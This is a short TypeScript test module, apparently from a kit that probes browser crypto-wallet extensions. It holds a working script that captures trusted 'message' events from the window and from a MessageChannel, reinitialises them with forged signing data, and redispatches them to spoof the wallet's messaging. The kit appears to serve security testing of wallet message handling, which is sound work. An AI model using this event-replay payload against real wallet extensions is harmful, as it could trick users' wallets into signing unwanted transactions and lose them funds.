import type { Attack } from './kit/attack.ts'
import { WIRE_HEARD_FIRST } from './kit/open-reasons.ts'

export default {
  family: 'wire',
  how: 'Keeps trusted message events, of the window and of a channel of its own, and dispatches them again with other data.',
  script: `
    const events = await Promise.all([
      new Promise((got) => {
        addEventListener('message', (each) => each.data?.data?.data?.id === 3 && got(each))
        postMessage(attack.posted({ method: 'eth_chainId', params: [] }, 3), '*')
      }),
      new Promise((got) => {
        const { port1, port2 } = new MessageChannel()
        port1.onmessage = got
        port2.postMessage(0)
      }),
    ])
    await attack.sleep(20)
    const data = attack.posted(attack.sign)
    for (const event of events) {
      event.initMessageEvent('message', false, false, data, location.origin, '', window, [])
      dispatchEvent(event)
    }
    await attack.sleep(300)
  `,
  open: { 'wallet-before': WIRE_HEARD_FIRST },
} satisfies Attack
